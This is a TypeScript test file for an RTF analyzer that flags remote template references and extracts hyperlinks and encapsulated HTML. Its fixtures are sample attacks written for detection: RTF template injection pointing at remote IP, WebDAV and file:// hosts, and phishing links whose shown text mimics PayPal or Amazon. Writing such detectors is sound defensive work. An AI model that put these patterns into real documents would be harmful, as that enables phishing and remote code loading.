import { test } from 'node:test';
import assert from 'node:assert/strict';
import { controlWordAt } from './control-word.js';
import { analyzeRtf } from './index.js';
import { MAX_RTF_LINKS, rtfDocument, rtfText } from './text.js';

// Session 43: RTF's template injection — `{\*\template …}` naming a template Word fetches when the document opens.
test('analyzeRtf: a remote \\template destination, not a local one', () => {
  const rows: [rtf: string, remote: string | undefined][] = [
    ['{\\rtf1\\ansi{\\*\\template http://185.220.101.7/t/template.doc}Invoice\\par}', 'http://185.220.101.7/t/template.doc'],
    ['{\\rtf1{\\*\\template https://docs-share.example/Normal.dotm}\\par}', 'https://docs-share.example/Normal.dotm'],
    ['{\\rtf1{\\*\\template \\\\\\\\docs-share.online@SSL\\\\DavWWWRoot\\\\t.dotm}\\par}', '\\\\docs-share.online@SSL\\DavWWWRoot\\t.dotm'],
    ['{\\rtf1{\\*\\template file://185.220.101.7/share/t.dot}\\par}', 'file://185.220.101.7/share/t.dot'],
    // A template on the writer's own disk, and no template.
    ['{\\rtf1{\\*\\template C:\\\\Users\\\\anna\\\\AppData\\\\Roaming\\\\Microsoft\\\\Templates\\\\Normal.dotm}\\par}', undefined],
    ['{\\rtf1\\ansi Invoice 2291\\par}', undefined],
  ];
  for (const [rtf, remote] of rows) assert.equal(analyzeRtf(Buffer.from(rtf, 'latin1')).remoteTemplate, remote, rtf);
});

// Session 64 (issue 17 item 8): an RTF body's HYPERLINK fields read as anchors, their result text as the link's text.
test('rtfDocument: HYPERLINK fields with the text they show; its words are rtfText\'s (table)', () => {
  const rows: [rtf: string, links: { href: string; text: string }[]][] = [
    // Word's form: the instruction in a nested group, a tooltip switch, the result in a character style.
    ['{\\rtf1\\ansi Sign in: {\\field{\\*\\fldinst {\\rtlch HYPERLINK "http://203.0.113.9/login" \\\\o "tip"}}{\\fldrslt {\\cs15\\ul\\cf2 https://www.paypal.com/}}}\\par}', [{ href: 'http://203.0.113.9/login', text: 'https://www.paypal.com/' }]],
    ['{\\rtf1 {\\field{\\fldinst HYPERLINK https://kunden.example.evil/a}{\\fldrslt Zum Kundenbereich}} und {\\field{\\*\\fldinst HYPERLINK "https://b.example/"}{\\fldrslt zweitens}}\\par}', [{ href: 'https://kunden.example.evil/a', text: 'Zum Kundenbereich' }, { href: 'https://b.example/', text: 'zweitens' }]],
    ['{\\rtf1\\uc1 {\\field{\\*\\fldinst HYPERLINK "https://amaz0n.example.evil/"}{\\fldrslt \\u12525?\\u12464?\\u12452?\\u12531?}}\\par}', [{ href: 'https://amaz0n.example.evil/', text: 'ログイン' }]],
    // A field cut before its result: the address is still a link.
    ['{\\rtf1 {\\field{\\*\\fldinst HYPERLINK "https://cut.example/"}', [{ href: 'https://cut.example/', text: '' }]],
    // Must not: a local link, another field, a document with no field.
    ['{\\rtf1 {\\field{\\*\\fldinst HYPERLINK \\\\l "_Toc1"}{\\fldrslt Contents}} page {\\field{\\*\\fldinst PAGE}{\\fldrslt 3}}\\par}', []],
    ['{\\rtf1{\\fonttbl{\\f0 Arial;}}\\f0 View \\b document\\b0\\par}', []],
  ];
  for (const [rtf, links] of rows) {
    const bytes = Buffer.from(rtf, 'latin1');
    const doc = rtfDocument(bytes, 10_000);
    assert.deepEqual(doc.links, links, rtf);
    assert.equal(doc.text, rtfText(bytes, 10_000), `the same words: ${rtf}`);
  }
  const many = Buffer.from(`{\\rtf1 ${'{\\field{\\*\\fldinst HYPERLINK "https://x.example/"}{\\fldrslt x}} '.repeat(MAX_RTF_LINKS + 10)}}`, 'latin1');
  assert.equal(rtfDocument(many, 1_000_000).links.length, MAX_RTF_LINKS, 'bounded');
});

test('rtfDocument: its words are rtfText\'s on seeded random documents of RTF pieces', () => {
  const pieces = ['{', '}', '\\field', '{\\*\\fldinst ', '{\\fldinst ', 'HYPERLINK ', '"https://a.example/"', '{\\fldrslt ', '\\par ', '\\u12525?', '\\uc2 ', "\\'e9", '\\\\l ', '\\bin3 xyz', '{\\*\\x ', '{\\fonttbl ', 'word ', 'Sign in', '\\~', '\r\n'];
  let seed = 64;
  const next = (): number => (seed = (Math.imul(seed, 1103515245) + 12345) >>> 0) / 2 ** 32;
  for (let n = 0; n < 2000; n++) {
    let rtf = '{\\rtf1 ';
    for (let k = Math.floor(next() * 40); k > 0; k--) rtf += pieces[Math.floor(next() * pieces.length)]!;
    const bytes = Buffer.from(rtf, 'latin1');
    const max = next() < 0.2 ? 10 : 10_000;
    assert.equal(rtfDocument(bytes, max).text, rtfText(bytes, max), rtf);
  }
});

// Session 65: the HTML an RTF body encapsulates (MS-OXRTFEX \fromhtml1), de-encapsulated.
test('rtfHtml: the encapsulated HTML — tags from \\*\\htmltag, text outside \\htmlrtf, escapes in the code page; none for other RTF', async () => {
  const { rtfHtml } = await import('./html.js');
  const doc = '{\\rtf1\\ansi\\ansicpg1252\\fromhtml1 \\deff0{\\fonttbl{\\f0 Arial;}}{\\*\\htmltag19 <p class="x">}\\htmlrtf {\\b\\htmlrtf0 Gr\\\'fc\\\'dfe \\{1\\}\\htmlrtf }\\htmlrtf0 {\\*\\htmltag84 <a href="https://a.example/?q=1&amp;r=2">}\\u8364?5{\\*\\htmltag92 </a>}{\\*\\htmltag72 </p>}}';
  assert.equal(rtfHtml(Buffer.from(doc, 'latin1'), 10_000), '<p class="x">Grüße {1}<a href="https://a.example/?q=1&amp;r=2">€5</a></p>');
  // Bounded, and a cut or damaged file gives what it held (no throw).
  assert.equal(rtfHtml(Buffer.from(doc, 'latin1'), 10)?.length, 10);
  assert.equal(rtfHtml(Buffer.from(doc.slice(0, doc.indexOf('\\u8364')), 'latin1'), 10_000), '<p class="x">Grüße {1}<a href="https://a.example/?q=1&amp;r=2">');
  assert.equal(typeof rtfHtml(Buffer.from(`${doc.slice(0, 60)}\\bin999999 {{{{\\'zz\\u`, 'latin1'), 10_000), 'string');
  // Must not: plain RTF, text encapsulated in RTF (\fromtext), a \fromhtml1 outside the header's first 2 KB, no RTF at all.
  for (const other of ['{\\rtf1\\ansi Hello\\par}', '{\\rtf1\\ansi\\fromtext Hello}', `{\\rtf1\\ansi ${'x'.repeat(3000)}\\fromhtml1 }`, '<html>\\fromhtml1</html>']) {
    assert.equal(rtfHtml(Buffer.from(other, 'latin1'), 10_000), undefined, other.slice(0, 30));
  }
});

test('controlWordAt: a word with its number and the one blank it eats; \\bin steps over its data; a control symbol is left to the caller', () => {
  const rows: [string, number, ReturnType<typeof controlWordAt>][] = [
    ['\\par next', 0, { name: 'par', arg: undefined, next: 5 }],
    ['x\\u-3913?', 1, { name: 'u', arg: -3913, next: 8 }],
    ['\\fs24  text', 0, { name: 'fs', arg: 24, next: 6 }],
    ['\\bin4 {}\\}x', 0, { name: 'bin', arg: 4, next: 10 }],
    ['\\bin0 x', 0, { name: 'bin', arg: 0, next: 6 }],
    ['\\~x', 0, undefined],
    ['\\*\\htmltag19 <a>', 0, undefined],
  ];
  for (const [s, at, want] of rows) assert.deepEqual(controlWordAt(s, at), want, s);
});
